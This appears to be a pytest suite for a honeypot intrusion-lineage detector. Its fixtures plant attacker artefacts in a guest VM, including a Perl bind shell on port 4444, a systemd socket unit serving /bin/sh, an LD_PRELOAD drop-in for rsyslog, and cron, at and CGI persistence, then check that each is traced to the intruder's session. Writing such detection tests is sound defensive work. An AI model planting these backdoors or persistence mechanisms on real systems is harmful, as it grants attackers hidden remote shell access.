# SPDX-License-Identifier: GPL-2.0-or-later
"""Whose doing it is: what an intruder leaves behind, and what others then do for him, is his session's.

One visit leaves it all behind and ends; a second one meets it; a stranger comes in by the back door.
"""
import base64
import os
import subprocess
import time

import pytest

from conftest import APACHE, script_as_root_in_guest, wait_for

FAR = "203.0.113.9"
LIBRARY = "/usr/local/lib/libaudit-plugin.so"

BACK_DOOR = r"""
use Socket;
socket(L, PF_INET, SOCK_STREAM, 0); setsockopt(L, SOL_SOCKET, SO_REUSEADDR, 1);
bind(L, sockaddr_in(4444, INADDR_ANY)); listen(L, 5);
$SIG{CHLD} = "IGNORE";
while (accept(C, L)) {
	if (!fork) { open(STDIN, "<&C"); open(STDOUT, ">&C"); exec("/bin/sh"); }
	close(C);
}
"""

SENDS = rf"""
use Socket;
socket(S, PF_INET, SOCK_DGRAM, 0);
send(S, "x", 0, sockaddr_in(4001, inet_aton("{FAR}"))) for 1 .. 4;
send(S, "y", 0, sockaddr_in(4002, inet_aton("{FAR}"))) for 1 .. 2;
socket(R, PF_INET, SOCK_RAW, 1);
send(R, pack("CCnnn", 8, 0, 0xf7fd, 1, 1), 0, sockaddr_in(0, inet_aton("{FAR}")));
socket(P, 17, 3, 0x0300);
"""

# Each leaves a program to be run by somebody else, told apart by what it echoes.
FIRST = rf"""
/bin/true visit-first
cd /usr/local/bin
echo '* * * * * root /bin/echo from-crontab "two words" \%s' >>/etc/crontab
echo '* * * * * /bin/echo from-own-crontab' | crontab -
echo '/bin/echo from-at' | at now
printf '#!/bin/sh\n/bin/echo from-script\n' >report
printf '/bin/echo from-read-script\n' >report.inc
chmod 755 report
unit() {{ printf "[Service]\nType=oneshot\nExecStart=$2\n" >/etc/systemd/system/$1.service; }}
unit report /usr/local/bin/report
unit read '/bin/sh /usr/local/bin/report.inc'
unit words "/bin/sh -c '/bin/echo from-unit; :'"
mkdir -p /etc/systemd/system/rsyslog.service.d
printf '[Service]\nEnvironment=LD_PRELOAD={LIBRARY}\n' >/etc/systemd/system/rsyslog.service.d/audit.conf
systemctl daemon-reload
systemctl start report read words
systemctl restart rsyslog
systemd-run --quiet /bin/echo from-systemd-run
nohup setsid sh -c '(sleep 4; /bin/echo from-orphan) &' >/dev/null 2>&1 </dev/null
su webadmin -c '/bin/echo from-su'
sudo -u www-data /bin/echo from-sudo
screen -dmS work
setsid perl /usr/local/bin/door >/dev/null 2>&1 </dev/null &
perl /usr/local/bin/sends
bash -c 'echo z >/dev/udp/{FAR}/4003'
sleep 1
printf '[Socket]\nListenStream=4445\nAccept=yes\n' >/etc/systemd/system/helper.socket
printf '[Service]\nExecStart=/bin/sh\nStandardInput=socket\n' >/etc/systemd/system/helper@.service
systemctl daemon-reload
systemctl start helper.socket
bash -c 'exec 3<>/dev/tcp/127.0.0.1/4444; echo "/bin/echo from-loopback; exit" >&3; cat <&3' >/dev/null
bash -c 'exec 3<>/dev/tcp/127.0.0.1/80; echo "GET /" >&3; cat <&3' >/dev/null
printf '#!/bin/sh\n/bin/echo from-cgi >&2; printf "Content-Type: text/plain\\n\\nhello"\n' >/usr/lib/cgi-bin/report
chmod 755 /usr/lib/cgi-bin/report
a2enmod -q cgid && a2enconf -q serve-cgi-bin && systemctl restart apache2
now=$(date +%s)
date -s @$((now - now % 3600 + 3600 * (now % 3600 > 1000) + 1015))
"""

SECOND = """
/bin/true visit-second
screen -S work -X stuff '/bin/echo from-screen\\r'
timeout 3 screen -r work
"""

CLEAN = """
/bin/true visit-last
a2dismod -q cgid; a2disconf -q serve-cgi-bin; rm -f /usr/lib/cgi-bin/report
sed -i /from-crontab/d /etc/crontab
crontab -r
cd /etc/systemd/system
systemctl stop helper.socket
rm -rf report.service read.service words.service rsyslog.service.d helper.socket helper@.service
printf '[Service]\\nType=oneshot\\nExecStart=/bin/echo from-next-boot\\n[Install]\\nWantedBy=multi-user.target\\n' \
	>/etc/systemd/system/later.service
systemctl enable later
systemctl reboot
sleep 60
"""

REMOVE = "systemctl disable later; rm -f /etc/systemd/system/later.service"


def packed(text):
    return base64.b64encode(text if isinstance(text, bytes) else text.encode()).decode()


def put(path, content):
    return f"echo {packed(content)} | base64 -d >{path}\n"


def run_of(skep, *args):
    """The newest exec event whose arguments begin with these, or None."""
    for e in reversed(skep.events("--kind", "exec", "--honeypot", "Apache")):
        if e["process"].get("args", [])[:len(args)] == list(args):
            return e
    return None


def session_of(skep, marker):
    def there():
        e = run_of(skep, "/bin/true", marker)
        return e and e.get("session")
    return wait_for(there, 30, 0.5)


def library():
    """A library that is only there to be loaded."""
    folder = "/tmp/skep-lineage-library"
    os.makedirs(folder, exist_ok=True)
    path = os.path.join(folder, "x.so")
    subprocess.run(["gcc", "-shared", "-nostdlib", "-s", "-x", "c", "-o", path, "-"], check=True,
                   input=b"int audit_plugin(void) { return 1; }\n")
    with open(path, "rb") as f:
        content = f.read()
    os.remove(path)
    os.rmdir(folder)
    return content


@pytest.fixture(scope="module")
def first(skep):
    """The number of the session that left everything behind."""
    script_as_root_in_guest(skep, APACHE, put(LIBRARY, library()) + put("/usr/local/bin/door", BACK_DOOR) +
            put("/usr/local/bin/sends", SENDS) + FIRST)
    return session_of(skep, "visit-first")


@pytest.fixture(scope="module")
def second(skep, first):
    script_as_root_in_guest(skep, APACHE, SECOND)
    return session_of(skep, "visit-second")


def lineage(skep, session, **want):
    """Lineage events of a session in which these members, by their names' last parts, are so."""
    found = []
    for e in skep.events("--kind", "lineage", "--honeypot", "Apache"):
        have = {"action": e["event"]["action"], "path": e.get("file", {}).get("path"), "name": e["process"]["name"],
                "target": e.get("target", {}).get("name")}
        if e.get("session") == session and all(have[k] == v for k, v in want.items()):
            found.append(e)
    return found


@pytest.mark.parametrize("who", [
    "su", "sudo", "orphan", "script", "read-script", "unit", "systemd-run", "at", "loopback", "crontab", "own-crontab"])
def test_what_others_do_for_him_is_his(skep, first, who):
    e = wait_for(lambda: run_of(skep, "/bin/echo", f"from-{who}"), 90, 1)
    assert e["session"] == first


@pytest.mark.parametrize("want", [
    {"action": "job", "path": "/etc/crontab"},
    {"action": "job", "path": "/var/spool/cron/crontabs/root"},
    {"action": "job", "path": "/etc/systemd/system/words.service"},
    {"action": "file", "path": "/usr/local/bin/report"},
    {"action": "file", "path": "/usr/local/bin/report.inc"},
    {"action": "file", "path": LIBRARY, "name": "rsyslogd"},
    {"action": "socket", "path": "/run/systemd/private"},
    {"action": "socket", "name": "apache2"},
], ids=str)
def test_why_it_is_his_is_told(skep, first, want):
    assert wait_for(lambda: lineage(skep, first, **want), 90, 1)


def test_at_is_told_by_its_job_file(skep, first):
    jobs = wait_for(lambda: lineage(skep, first, action="job", name="atd"), 30, 1)
    assert jobs[0]["file"]["path"].startswith("/var/spool/cron/atjobs/")


def test_what_was_there_before_stays_nobodys(skep, first):
    """The line above his in /etc/crontab, for which he has set the clock; and the daemons themselves."""
    hourly = wait_for(lambda: run_of(skep, "/bin/sh", "-c", "cd / && run-parts --report /etc/cron.hourly"), 90, 1)
    assert "session" not in hourly
    taken = [e for e in skep.events("--kind", "lineage", "--honeypot", "Apache")
             if e["process"]["pid"] == 1 or e["process"]["name"] == "cron" and e["event"]["action"] != "job"]
    assert not taken, taken


def test_the_end_of_the_session_stays_the_end_of_its_connection(skep, first):
    s = next(s for s in skep.json("sessions", "--all") if s["id"] == first)
    cron = wait_for(lambda: run_of(skep, "/bin/echo", "from-own-crontab"), 90, 1)
    assert s["end"] < cron["timestamp"]
    wait_for(lambda: next(s for s in skep.json("sessions", "--all") if s["id"] == first)["last"] >= cron["timestamp"],
             20, 0.5)


def test_datagrams_are_told_once_for_each_destination(skep, first):
    def sent():
        found = sorted((e["proto"], e["dest_port"] if e["proto"] == "UDP" else 0)
                       for e in skep.events("--kind", "send", "--honeypot", "Apache")
                       if e.get("session") == first and e["dest_ip"] == FAR)
        return found if ("UDP", 4003) in found else None
    assert wait_for(sent, 20, 0.5) == [("ICMP", 0), ("UDP", 4001), ("UDP", 4002), ("UDP", 4003)]


def test_a_verdict_about_a_datagram_leads_to_its_process(skep, first):
    def verdicts():
        return [e for e in skep.events("--kind", "verdict", "--honeypot", "Apache")
                if e.get("dest_ip") == FAR and e.get("dest_port") == 4001]
    for e in wait_for(verdicts, 20, 0.5):
        assert e["session"] == first and e["process"]["name"] == "perl"


def test_raw_and_packet_sockets_are_told(skep, first):
    made = [(e["socket"]["family"], e["socket"]["type"], e["process"]["name"])
            for e in skep.events("--kind", "socket", "--honeypot", "Apache") if e.get("session") == first]
    assert (2, 3, "perl") in made and (17, 3, "perl") in made


def test_a_back_door_is_his(skep, first):
    for kind in ("bind", "listen"):
        doors = [e for e in skep.events("--kind", kind, "--honeypot", "Apache") if e["src_port"] == 4444]
        assert doors and all(e["session"] == first for e in doors)


@pytest.mark.parametrize("port", [4444, 4445], ids=["of-his-own", "of-init"])
def test_who_comes_through_a_back_door_is_himself(skep, first, port):
    skep.lab("python3", "-c", f"import socket; s = socket.create_connection(('{APACHE}', {port})); "
             f"s.sendall(b'/bin/echo from-{port}; exit\\n'); print(s.recv(99))")
    e = wait_for(lambda: run_of(skep, "/bin/echo", f"from-{port}"), 20, 0.5)
    shell = next(x for x in skep.events("--kind", "exec", "--honeypot", "Apache")
                 if x["process"]["entity_id"] == e["process"]["parent"]["entity_id"])
    s = next(s for s in skep.json("sessions", "--all") if s["id"] == e["session"])
    assert s["id"] != first and s["dest_port"] == port and shell["session"] == s["id"]


def test_a_web_server_and_its_helpers_work_for_who_asks(skep, first):
    """The request goes from a thread of apache2 over a unix socket to a daemon, which runs what the intruder wrote."""
    def answered():
        """the script's answer"""
        return skep.lab("curl", "-s", f"http://{APACHE}/cgi-bin/report", check=False).stdout == "hello"
    wait_for(answered, 60, 1)
    e = wait_for(lambda: run_of(skep, "/bin/echo", "from-cgi"), 20, 0.5)
    s = next(s for s in skep.json("sessions", "--all") if s["id"] == e["session"])
    assert s["id"] != first and s["dest_port"] == 80


def test_a_terminal_that_was_left_stays_whose_it_is(skep, first, second):
    assert second != first
    assert wait_for(lambda: run_of(skep, "/bin/echo", "from-screen"), 20, 0.5)["session"] == first
    met = wait_for(lambda: lineage(skep, second, action="socket", name="screen", target="screen"), 20, 0.5)
    server = run_of(skep, "screen", "-dmS", "work")
    assert server["session"] == first and met[0]["file"]["path"].startswith("/run/screen/")


def test_after_a_reboot_it_is_still_his(skep, first, second):
    boots = len(skep.events("--kind", "boot", "--honeypot", "Apache"))
    script_as_root_in_guest(skep, APACHE, CLEAN)
    last = session_of(skep, "visit-last")
    e = wait_for(lambda: run_of(skep, "/bin/echo", "from-next-boot"), 120, 1)
    assert e["session"] == last
    assert len(skep.events("--kind", "boot", "--honeypot", "Apache")) == boots + 1

    def up():
        """Apache is up again"""
        return all(h["state"] == "up" for h in skep.status()["honeypots"])
    wait_for(up, 120, 1)
    time.sleep(1)
    script_as_root_in_guest(skep, APACHE, REMOVE)
